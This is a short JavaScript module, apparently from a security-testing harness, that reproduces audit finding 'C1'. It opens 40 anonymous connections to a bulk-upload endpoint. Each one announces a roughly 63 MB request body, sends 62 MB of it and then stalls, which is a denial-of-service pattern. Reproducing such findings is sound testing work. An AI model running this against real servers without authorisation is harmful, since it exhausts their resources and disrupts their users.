import { postHead } from '../postHead.mjs';

const ANNOUNCED_BYTES = 66_060_288;
const UNIT = Buffer.alloc(1_048_576, '{},');
const SENT_UNITS = 62;
const CONNECTION_COUNT = 40;
const PAUSE_MS = 2_000;

/** 40 anonymous connections that announce 63 MB, send 62 MB and stop. */
export const halfSentBodies = {
  finding: 'C1',
  run: (attacker) => attacker.crowd(CONNECTION_COUNT, () => sendHalf(attacker)),
};

/** Announces a body, sends most of it and waits for the server's answer or the end of the connection. */
export async function sendHalf(attacker) {
  attacker.sentCount++;
  const { socket, answered } = await attacker.rawHttp([
    postHead('/x/y/_bulk', ANNOUNCED_BYTES),
    ...Array(SENT_UNITS).fill(UNIT),
  ]);
  attacker.count(await attacker.untilEnd(answered));
  socket.destroy();
  await attacker.pause(PAUSE_MS);
}
